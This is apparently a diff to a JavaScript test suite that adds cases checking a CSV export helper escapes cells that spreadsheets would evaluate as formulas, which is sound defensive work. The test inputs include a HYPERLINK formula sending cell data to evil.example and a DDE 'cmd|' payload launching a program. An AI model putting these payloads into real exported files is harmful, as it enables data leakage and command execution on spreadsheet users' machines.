@@ -329,6 +329,27 @@ describe('report helpers', () => {
     assert.equal(csvField('two\nlines'), '"two\nlines"');
   });
 
+  test('CSV cells that a spreadsheet would take for a formula are neutralised with a leading quote', () => {
+    // OWASP's CSV injection list: =, +, -, @, tab and CR at the start of a cell.
+    assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    assert.equal(csvField('=1+2'), "'=1+2");
+    assert.equal(csvField('+1 555 0100'), "'+1 555 0100");
+    assert.equal(csvField('-2+3+cmd|\' /C calc\'!A0'), "'-2+3+cmd|' /C calc'!A0");
+    assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)");
+    assert.equal(csvField('\t=1+2'), "'\t=1+2");
+    assert.equal(csvField('\r=1+2'), '"\'\r=1+2"');
+    assert.equal(csvField(';=1+2'), ';=1+2', 'only the first character counts');
+    assert.equal(csvField('a=b'), 'a=b');
+    // A plain negative number is still that number (nothing in it can be evaluated).
+    assert.equal(csvField('-12'), '-12');
+    assert.equal(csvField('-0.5'), '-0.5');
+    assert.equal(csvField('-1,234.56'), '"-1,234.56"');
+    assert.equal(csvField('-1e3'), "'-1e3");
+    assert.equal(csvField('-12-1'), "'-12-1");
+    assert.equal(csvField('-'), "'-");
+    assert.equal(csvField(''), '');
+  });
+
   test('safe file names and deterministic disambiguation', () => {
     assert.equal(safeFileStem('Jane Doe NDA.pdf'), 'Jane Doe NDA');
     assert.equal(safeFileStem('a/b\\c:d*e?f"g<h>i|j\u0001.docx'), 'a_b_c_d_e_f_g_h_i_j', 'control characters dropped');
